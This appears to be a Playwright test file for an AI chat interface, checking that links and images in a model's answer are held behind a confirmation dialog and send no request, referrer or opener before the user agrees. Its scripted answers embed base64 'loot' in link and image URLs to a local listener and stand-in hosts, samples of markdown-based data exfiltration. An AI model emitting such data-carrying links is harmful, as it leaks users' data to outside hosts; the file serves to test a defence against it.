"""Images and links of an answer: no host hears of them before the person agrees."""

from __future__ import annotations

import base64

from playwright.sync_api import Request, Route, expect

from support.chat_page import ChatPage
from support.listener import Listener
from support.model_server import ModelServer, call, say


def test_a_link_that_carries_data_is_shown_before_it_opens(chat: ChatPage, model: ModelServer) -> None:
    page, context = chat.page, chat.page.context
    with Listener() as listener:
        url = f"http://127.0.0.1:{listener.port}"
        loot = base64.b64encode(b"Ada,100000;" * 30).decode()
        model.script([say(f"[short]({url}/page) [long]({url}/?d={loot}) ![chart]({url}/{loot}.png)")])
        answer = chat.ask("link")
        image = answer.get_by_role("link", name="Image from 127.0.0.1")
        expect(image).to_have_attribute("rel", "noopener noreferrer")
        expect(answer.locator("img")).to_have_count(0)
        dialog = page.get_by_role("dialog", name="This link carries data")
        for link, middle in ((answer.get_by_role("link", name="long"), False), (image, True)):
            link.click(button="middle" if middle else "left")
            expect(dialog).to_contain_text(loot[:60])
            expect(dialog).to_contain_text(f"127.0.0.1:{listener.port}")
            expect(dialog.get_by_role("button", name="Do not open")).to_be_focused()
            dialog.get_by_role("button", name="Do not open").click()
            expect(dialog).to_be_hidden()
        assert listener.seen == [] and len(context.pages) == 1

    def arrived(route: Route) -> None:
        opened.append(route.request)
        route.fulfill(body="<title>there</title>", content_type="text/html")

    opened: list[Request] = []
    context.route("https://there.invalid/**", arrived)
    model.script([say(f"[brief](https://there.invalid/page) [lengthy](https://there.invalid/?d={loot})")])
    answer = chat.ask("another")
    for name in ("brief", "lengthy"):
        with context.expect_page() as page_info:
            answer.get_by_role("link", name=name).click()
            if name == "lengthy":
                dialog.get_by_role("button", name="Open anyway").click()
        expect(page_info.value).to_have_title("there")
        assert page_info.value.evaluate("[opener, document.referrer]") == [None, ""]
        page_info.value.close()
    assert opened[0].url == "https://there.invalid/page" and loot[:40] in opened[1].url
    assert not any("referer" in request.headers for request in opened)


def test_a_link_in_html_of_a_run_is_held_too(chat: ChatPage, model: ModelServer) -> None:
    loot = "a1" * 100
    code = f"from IPython.display import HTML\nHTML('<a href=\"https://host.invalid/?d={loot}\">out</a>')"
    model.script([call(code), say("There.")])
    answer = chat.ask("html")
    chat.unfold()
    answer.frame_locator("iframe").frame_locator("iframe").get_by_role("link", name="out").click()
    dialog = chat.page.get_by_role("dialog", name="This link carries data")
    expect(dialog).to_contain_text("host.invalid")
    dialog.get_by_role("button", name="Do not open").click()
    expect(dialog).to_be_hidden()
    assert len(chat.page.context.pages) == 1
